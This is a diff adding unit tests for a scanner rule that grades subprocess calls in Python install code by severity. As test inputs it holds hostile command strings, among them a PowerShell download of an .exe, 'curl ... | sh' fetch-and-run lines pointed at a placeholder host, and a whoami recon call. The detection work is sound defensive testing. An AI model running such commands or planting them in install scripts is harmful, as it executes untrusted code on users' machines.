@@ -61,6 +61,27 @@ TEST(InstallExecRule, EscalatesDownloadsShellsAndPayloads) {
                 Severity::kCritical, 2);
 }
 
+// A second interpreter started in the background to import another package
+// runs that package's code apart from pip: critical. Asking an interpreter
+// about itself or reading a build path from it is not.
+TEST(InstallExecRule, BackgroundInterpreterImportingAPackage) {
+  ExpectFinding("import subprocess\nsubprocess.Popen(['python3', '-c', 'from other import x'], "
+                "close_fds=True)\n",
+                Severity::kCritical);
+  ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
+                "\"import warnings; warnings.filterwarnings('ignore'); import other\"])\n",
+                Severity::kCritical);
+  // Standard library only, output read, or not Popen: as before (high).
+  ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
+                "'import sys; print(sys.prefix)'])\n",
+                Severity::kHigh);
+  ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
+                "'import numpy; print(numpy.get_include())'], stdout=subprocess.PIPE)\n",
+                Severity::kHigh);
+  ExpectFinding("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import numpy'])\n",
+                Severity::kHigh);
+}
+
 TEST(InstallExecRule, EscalatesHostReconAndAccountChanges) {
   ExpectFinding("import subprocess\nsubprocess.run(['whoami'], capture_output=True)\n",
                 Severity::kCritical);
@@ -106,6 +127,28 @@ TEST(InstallExecRule, EscalationLooksOnlyInsideTheCall) {
   ExpectFinding("import subprocess, sys\nsubprocess.call([sys.executable, 'x.py'])\n",
                 Severity::kHigh);
   ExpectFinding("exec(fh.read(), about)\n", Severity::kLow);
+}
+
+// A command built in a variable is graded by what the variable holds: the
+// line its value is assigned on joins the call's own text.
+TEST(InstallExecRule, EscalationFollowsNamesToTheirAssignedText) {
+  ExpectFinding("import os, subprocess\nout = os.path.join(os.getcwd(), 't.exe')\n"
+                "cmd = f\"powershell -Command \\\"Invoke-WebRequest -Uri u -OutFile '{out}'\\\"\"\n"
+                "subprocess.run(cmd, shell=True)\n",
+                Severity::kCritical, 4);
+  // Ordinary variables keep the call's own grade; keyword names and
+  // attributes are not looked up.
+  ExpectFinding("import subprocess\nargs = ['make', 'all']\nsubprocess.run(args)\n",
+                Severity::kHigh);
+  std::vector<Finding> kw = Check("import subprocess\nshell = 'curl http://x.invalid | sh'\n"
+                                  "subprocess.run(['make'], shell=True)\n");
+  ASSERT_EQ(kw.size(), 1u);
+  EXPECT_LT(kw[0].severity, Severity::kCritical) << kw[0].message;
+  std::vector<Finding> attr = Check("import subprocess\nclass C: pass\nc = C()\n"
+                                    "cmd = 'curl http://x.invalid | sh'\n"
+                                    "subprocess.run(['make', c.cmd])\n");
+  ASSERT_EQ(attr.size(), 1u);
+  EXPECT_LT(attr[0].severity, Severity::kCritical) << attr[0].message;
 }
 
 TEST(InstallExecRule, BlocksGuardedByOtherCommandsDoNotRunAtInstall) {
